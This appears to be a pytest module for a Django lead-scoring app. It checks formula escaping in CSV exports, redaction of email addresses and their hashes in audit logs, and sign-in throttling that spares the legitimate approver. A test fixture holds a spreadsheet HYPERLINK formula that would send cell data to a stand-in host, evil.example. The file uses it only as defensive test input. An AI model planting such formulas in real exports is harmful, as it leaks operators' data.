"""What an agent (or whoever drives it) plants in data must not turn against the people who oversee
it: a mirrored value is never a formula in an operator's spreadsheet, an exported decision log gives
no address away to a dictionary, an erasure leaves no trace of the address, and failing sign-ins
for an approver's name never keeps that approver out."""

from __future__ import annotations

import base64
import csv
import hashlib
from io import StringIO

import pytest
from django.core.management import call_command
from django.db import connection
from django.test import Client
from django.utils import timezone
from rest_framework.test import APIClient

from audit.models import DecisionLogEntry
from audit.redaction import hash_value
from privacy.services import data_subject_request_create, erasure_execute
from sales.models import Lead
from scoring.models import LeadScore
from security import signin
from tests.factories import LeadFactory, ModelVersionFactory, user_in_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
PASSWORD = "pw-for-tests-1"


def _bare_sha256(value: str) -> str:
    return hashlib.sha256(value.strip().lower().encode()).hexdigest()[:16]


# --- Exports -------------------------------------------------------------------------------------


def test_a_lead_it_mirrors_cannot_plant_a_formula_in_the_scores_export(agent, tmp_path):
    response = agent.post(
        "/api/v1/leads/bulk/",
        {"leads": [{"source": "hubspot", "external_id": FORMULA, "first_name": "Eve", "last_name": "X"}]},
    )
    assert response.status_code == 200, response.json()
    lead = Lead.objects.get(source="hubspot")
    LeadScore.objects.create(
        lead=lead, model_version=ModelVersionFactory(), role="champion", probability=0.5, score=50,
        tier="warm", features_hash="h", scored_at=timezone.now(), reasons=[{"text": "@SUM(1+1) points"}],
    )  # fmt: skip
    path = tmp_path / "scores.csv"
    call_command("export_scores", str(path), stdout=StringIO())
    row = next(csv.DictReader(path.open(newline="")))
    assert row["external_id"] == "'" + FORMULA
    assert row["top_reasons"] == "'@SUM(1+1) points"


def test_the_exported_decision_log_gives_no_address_to_a_dictionary(ops_admin):
    address = "ada.lovelace@example.com"
    data_subject_request_create(kind="access", email=address, user=ops_admin)
    client = APIClient()
    client.force_authenticate(ops_admin)
    day = timezone.now().date().isoformat()
    response = client.get("/api/v1/audit/export/", {"from": day, "to": day})
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert "privacy.request" in body
    assert address not in body
    assert _bare_sha256(address) not in body  # what hashing a list of likely addresses would find


def test_an_erasure_leaves_no_address_nor_hash_of_it_in_the_stored_log(ops_admin):
    address = "grace.hopper@example.com"
    LeadFactory(email=address, first_name="Grace", last_name="Hopper")
    request = data_subject_request_create(kind="erasure", email=address, user=ops_admin)
    erasure_execute(request=request, user=ops_admin)
    assert DecisionLogEntry._meta.db_table == "audit_decisionlogentry"
    with connection.cursor() as cursor:  # the stored bytes, as anyone with the database reads them
        cursor.execute(
            "SELECT event_type, input_context, action_taken, subject_id FROM audit_decisionlogentry"
        )
        rows = [" ".join(str(c) for c in row) for row in cursor.fetchall()]
    stored = "\n".join(rows)
    assert "privacy.erasure" in stored
    assert address not in stored.lower()
    assert _bare_sha256(address) not in stored
    privacy_rows = [r for r in rows if r.startswith("privacy.")]
    assert privacy_rows and not any(hash_value(address) in r for r in privacy_rows)


# --- Sign-in -------------------------------------------------------------------------------------


class Clock:
    def __init__(self) -> None:
        self.now = 1_700_000_000.0

    def __call__(self) -> float:
        return self.now

    def wait(self, seconds: float) -> None:
        self.now += seconds


@pytest.fixture
def clock(monkeypatch):
    fake = Clock()
    monkeypatch.setattr(signin, "now", fake, raising=False)
    return fake


@pytest.fixture
def approver(db):
    return user_in_role("SDR managers", username="approver")


def _sign_in(username, password, address):
    client = Client()
    response = client.post("/login/", {"username": username, "password": password}, REMOTE_ADDR=address)
    return response, client


def _basic(username, password, address):
    token = base64.b64encode(f"{username}:{password}".encode()).decode()
    return Client().get("/api/v1/leads/", HTTP_AUTHORIZATION=f"Basic {token}", REMOTE_ADDR=address)


def _fail_until_counted(clock, failures, *, username="approver", address="10.6.6.6"):
    """Fail ``failures`` times, each time waiting out whatever delay the last failure earned."""
    for _ in range(failures):
        response = _basic(username, "wrong", address)
        if response.status_code == 429:
            clock.wait(int(response["Retry-After"]))
            response = _basic(username, "wrong", address)
        assert response.status_code == 401


def test_fifty_failures_from_one_address_do_not_keep_the_approver_out_from_theirs(clock, approver):
    _fail_until_counted(clock, 50)
    response, client = _sign_in("approver", PASSWORD, "10.0.0.5")
    assert response.status_code == 302 and client.session["_auth_user_id"] == str(approver.pk)
    assert _basic("approver", PASSWORD, "10.0.0.6").status_code == 200


def test_the_attacking_address_waits_longer_after_each_failure(clock, approver):
    _fail_until_counted(clock, 5)  # the free ones
    waits = []
    for _ in range(5):
        assert _basic("approver", "wrong", "10.6.6.6").status_code == 401
        refused = _basic("approver", "wrong", "10.6.6.6")
        assert refused.status_code == 429
        assert "Too many failed sign-ins. Try again in" in refused.json()["detail"]
        waits.append(int(refused["Retry-After"]))
        clock.wait(waits[-1])
    assert waits == [1, 2, 4, 8, 16]


def test_a_delayed_attempt_is_not_even_checked_so_the_right_password_does_not_help_the_attacker(
    clock, approver
):
    _fail_until_counted(clock, 6)
    response, client = _sign_in("approver", PASSWORD, "10.6.6.6")
    assert "Too many failed sign-ins. Try again in 1 second" in response.content.decode()
    assert "_auth_user_id" not in client.session
    clock.wait(1)
    response, client = _sign_in("approver", PASSWORD, "10.6.6.6")
    assert response.status_code == 302


def test_an_address_spraying_many_usernames_is_delayed_and_other_addresses_are_not(clock, approver):
    for n in range(21):  # past the address's free failures (LOGIN_MAX_FAILURES_PER_ADDRESS, 20)
        _fail_until_counted(clock, 1, username=f"user{n}")
    refused = _basic("someone-new", "wrong", "10.6.6.6")
    assert refused.status_code == 429 and int(refused["Retry-After"]) >= 1
    response, _ = _sign_in("approver", PASSWORD, "10.0.0.5")
    assert response.status_code == 302


def test_failures_of_one_username_from_many_addresses_slow_new_addresses_not_the_owners(clock, approver):
    _sign_in("approver", PASSWORD, "10.0.0.5")  # the owner's address, now known to be theirs
    for n in range(60):
        _fail_until_counted(clock, 1, address=f"10.9.{n // 250}.{n % 250}")
    # Under that attack a new address earns a delay from its first failure instead of five free ones.
    assert _basic("approver", "wrong", "10.7.7.7").status_code == 401
    assert _basic("approver", "wrong", "10.7.7.7").status_code == 429
    # The owner, from their own address, gets in at once; so would they from a fresh address.
    assert _sign_in("approver", PASSWORD, "10.0.0.5")[0].status_code == 302
    assert _sign_in("approver", PASSWORD, "10.8.8.8")[0].status_code == 302


def test_unknown_usernames_get_the_same_delays_as_real_ones(clock, approver):
    _fail_until_counted(clock, 6, username="approver")
    _fail_until_counted(clock, 6, username="no-such-user", address="10.5.5.5")
    real = _basic("approver", "wrong", "10.6.6.6")
    unknown = _basic("no-such-user", "wrong", "10.5.5.5")
    assert (
        (real.status_code, real["Retry-After"]) == (unknown.status_code, unknown["Retry-After"]) == (429, "1")
    )
